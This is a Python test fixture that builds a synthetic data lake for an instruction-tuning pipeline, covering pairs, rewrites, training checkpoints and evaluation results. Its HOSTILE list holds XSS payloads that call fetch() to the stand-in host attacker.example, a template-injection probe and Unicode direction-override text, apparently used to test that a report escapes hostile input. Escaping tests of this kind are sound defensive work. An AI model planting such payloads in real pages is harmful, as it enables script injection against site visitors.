"""A lake with something of all that a report shows: vetoes of every kind, a conversation, hostile texts, evaluation."""

from datetime import datetime
from typing import Any

from dagster_project.lakehouse.lake import Lake
from models_py.content import canonical_json
from models_py.conversation import Context, Message
from models_py.training.manifest import checkpoint_id
from models_py.training.settings import TrainingSettings
from tests.sql.story import Story, Text, freeze

MARK = "attacker.example"
HOSTILE = [
    f"</script><script>fetch('http://{MARK}/script')</script>",
    f'<img src="http://{MARK}/pixel.png" onerror="fetch(\'http://{MARK}/error\')">',
    "{before} $& ${7*7} {{7*7}} <!-- <script> ]]> &lt;b&gt;",
    "\u202edesrever si siht\u202c \u05e9\u05dc\u05d5\u05dd \U0001f9ea \x0b tab\there",
]
LONG = "A word and another one. " * 4200  # 100,800 characters
BEFORE = Context("Be brief.", (Message("user", "Hi there"), Message("assistant", f"Hello {HOSTILE[1]}")))
CATEGORIES = ("coding", "writing", None)


def tell(lake: Lake) -> Lake:
    """30 pairs under three recipes of the guarded first choice; those of `paper` are frozen and trained on."""
    story = Story(lake, first_choice="guarded")
    story.recipe("half", "paper", top_fraction=0.5)
    story.recipe("paper", "paper")
    story.recipe("raw", "original")
    better = Text(ifd=0.9, r_ifd=0.7)
    for n in range(24):
        pair = f"{n:02d}"
        original = Text(ifd=0.3 + 0.03 * n, r_ifd=0.75, tokens=n + 1)
        match n % 6:
            case 0:
                story.pair(pair, original, better, both=Text(ifd=0.95, r_ifd=0.3 + 0.01 * n))
            case 1:
                story.pair(pair, original, Text(ifd=0.2, r_ifd=0.7), response=Text(ifd=0.8, r_ifd=0.8 + 0.001 * n))
            case 2:
                story.pair(pair, original, Text(ifd=1.1 + 0.01 * n, r_ifd=0.7), response=Text(ifd=0.8, r_ifd=0.5))
            case 3:
                story.pair(pair, original, Text(ifd=0.99, r_ifd=0.8 + 0.001 * n), response="truncated")
            case 4:
                story.pair(pair, original, "refused", response=Text(ifd=0.8, r_ifd=0.6))
            case 5:
                story.pair(pair, original, better, both="refused")
        _says(story, f"Tell me about subject {n}.", f"Well, here is what I know of {n}.", CATEGORIES[n % 3])
    for n, text in enumerate(HOSTILE):
        story.pair(f"h{n}", Text(ifd=0.4, r_ifd=0.75), better, both=Text(ifd=0.95, r_ifd=0.4))
        _says(story, f"{text} asked", text, text, input=text)
    story.pair("long", Text(ifd=0.4, r_ifd=0.75), better, both=Text(ifd=0.95, r_ifd=0.4))
    _says(story, "Write very much.", LONG, "writing")
    story.pair("failed", Text(ifd=None, r_ifd=None, status="not_finite"), "refused")
    _says(story, "Say something about zanzibar.", "Cloves.", "writing")
    raw = story.rows["raw.raw_pairs"]
    raw[4] |= {"system": BEFORE.system, "history": BEFORE.history_json}
    repeats = {"similarity": 0.9, "similarity_to_representative": 0.9, "cluster_size": 2, "representative_id": "00"}
    story.add("raw.near_duplicates", pair_id="00", place=1, **repeats)
    story.add("raw.near_duplicates", pair_id="01", place=2, linked_to="00", **repeats)
    _pay(story)
    _train(story)
    _evaluate(story)
    return freeze(story.tell(), "v1", "where recipe = 'paper'")


def _says(story: Story, instruction: str, output: str, category: str | None, input: str = "") -> None:
    """Give the pair that was told last its texts, its rewrites texts that differ from these, and critiques."""
    raw = story.rows["raw.raw_pairs"][-1]
    raw |= {"instruction": instruction, "output": output, "category": category, "input": input}
    raw |= {"source": "web" if raw["pair_id"] < "08" else "seeds", "file": "pairs.jsonl"}
    raw["source_row"] = len(story.rows["raw.raw_pairs"])
    for table, ending in (("instruction", "in two lines"), ("response", "and why")):
        for row in story.rows[f"reflection.{table}_reflections"]:
            if row["pair_id"] == raw["pair_id"]:
                row["critique"] = f"Too vague: {instruction}"
                if row["status"] == "ok":
                    row |= {"output": f"{output} {ending}"}
                if row["status"] == "ok" and table == "instruction":
                    row |= {"instruction": f"{instruction} Do it {ending}."}


def _pay(story: Story) -> None:
    for phase, dollars in (("instruction_reflection", 0.02), ("response_reflection", 0.0615)):
        reply = {"request_id": phase, "teacher": "gpt", "phase": phase, "status": "ok", "cost_usd": dollars}
        story.add("reflection.teacher_replies", **reply)


def _train(story: Story) -> None:
    settings = TrainingSettings(seed=1)
    hashed = canonical_json(settings.hashed).decode()
    story.add("profile.training_settings", recipe="paper", training_seed=1, settings=hashed)
    made = checkpoint_id("paper", "v1", "fp-toy", settings)
    checkpoint: dict[str, Any] = {"recipe": "paper", "checkpoint_id": made, "path": f"checkpoints/paper/{made}"}
    checkpoint |= {"manifest": '{"loss_before": 3.5, "loss_after": 2.25}', "created_at": datetime(2026, 1, 31)}
    story.add("training.student_checkpoints", **checkpoint, data_version="v1", student_fingerprint="fp-toy")
    for step in range(1, 1001):
        story.add("training.loss_curves", checkpoint_id=made, step=step, loss=3.5 / step)


def _evaluate(story: Story) -> None:
    names = {"judge": "gpt", "instruction_set": "set", "model_name": "paper", "opponent_name": "toy (base)"}
    rate = {"wins": 6, "ties": 2, "losses": 2, "win_rate": 0.7, "win_rate_low": 0.55, "win_rate_high": 0.85}
    story.add("evaluation.win_rates", model="paper", opponent="base", **names, **rate)
    for subject, kind, value in (("toy (base)", "base", 3.25), ("paper", "checkpoint", 2.5)):
        estimate = {"value": value, "low": value - 0.1, "high": value + 0.1, "n": 40, "left_out": 1, "by_seed": "[]"}
        metric = {"metric": "loss on held", "higher_is_better": False}
        story.add("evaluation.recipe_comparison", subject=subject, kind=kind, **metric, **estimate)
